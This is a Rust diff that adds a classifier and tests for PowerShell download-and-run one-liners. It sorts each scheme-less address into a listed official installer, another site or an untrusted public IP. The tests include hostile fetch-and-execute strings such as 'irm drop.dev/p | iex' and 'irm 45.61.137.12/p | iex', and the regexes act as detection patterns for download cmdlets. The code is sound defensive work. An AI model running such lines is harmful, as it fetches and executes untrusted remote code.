@@ -225,10 +225,53 @@ pub fn origin(line: &str, packages: bool) -> Origin {
             official = false;
         }
     }
+    if !seen {
+        return bare_origin(line);
+    }
     match (seen, official) {
         (false, _) => Origin::Unknown,
         (true, true) => Origin::Official,
         (true, false) => Origin::Other,
+    }
+}
+
+/// A PowerShell web cmdlet given an address without its scheme (batch 57:
+/// Scoop's documented `irm get.scoop.sh | iex`), the address the cmdlet
+/// completes itself. The first bare address after the cmdlet and its
+/// switches (`-useb`, `-Uri`) is the one capture.
+static BARE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\s+(?:-\w+\s+)*['"]?([a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?(?:/[^\s'"`)<>|;]*)?)(?:['"]|\s|$|[|;)])"#)
+        .expect("bare address regex")
+});
+
+/// Every way a PowerShell line downloads, to count against `BARE`.
+static DOWNLOADS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|download(?:string|file|data)|start-bitstransfer)\b")
+        .expect("download cmdlet regex")
+});
+
+/// What a line without any `http(s)://` URL says about its download: a
+/// PowerShell cmdlet's bare address is read as the cmdlet reads it. It
+/// asks over plain HTTP first, but a listed vendor's documented
+/// one-liner is that vendor's installer, as its `https://` form is. The
+/// line is official only when each of its downloads is such a cmdlet
+/// with a listed address; a public IP address is untrusted.
+fn bare_origin(line: &str) -> Origin {
+    let mut official = true;
+    let mut seen = 0;
+    for found in BARE.captures_iter(line) {
+        seen += 1;
+        let rest = found[1].to_ascii_lowercase();
+        let host = rest.split(['/', '?', '#']).next().unwrap_or("");
+        if RAW_IP.is_match(host) && !private(host) {
+            return Origin::Untrusted;
+        }
+        official &= listed(INSTALLERS, &rest);
+    }
+    match seen {
+        0 => Origin::Unknown,
+        _ if official && DOWNLOADS.find_iter(line).count() == seen => Origin::Official,
+        _ => Origin::Other,
     }
 }
 
@@ -919,6 +962,26 @@ mod tests {
             ),
             Origin::Official
         );
+    }
+
+    /// A PowerShell cmdlet's address without its scheme is read as the
+    /// cmdlet reads it: listed, another site, or a public IP address.
+    #[test]
+    fn a_bare_address_is_read_as_the_cmdlet_reads_it() {
+        let installer = |line: &str| origin(line, false);
+        assert_eq!(installer("irm get.scoop.sh | iex"), Origin::Official);
+        assert_eq!(installer("iwr -useb get.scoop.sh | iex"), Origin::Official);
+        for line in [
+            "irm get.scoop.sh.evil.dev | iex",
+            "irm get-scoop.sh | iex",
+            "irm evil.dev/get.scoop.sh | iex",
+            "irm get.scoop.sh | iex; iex (New-Object Net.WebClient).DownloadString($u)",
+            "irm get.scoop.sh -OutFile s.ps1; irm drop.dev/p | iex",
+        ] {
+            assert_eq!(installer(line), Origin::Other, "{line}");
+        }
+        assert_eq!(installer("irm 45.61.137.12/p | iex"), Origin::Untrusted);
+        assert_eq!(installer("irm $u | iex"), Origin::Unknown);
     }
 
     /// A host is official because it is listed, not because it is named
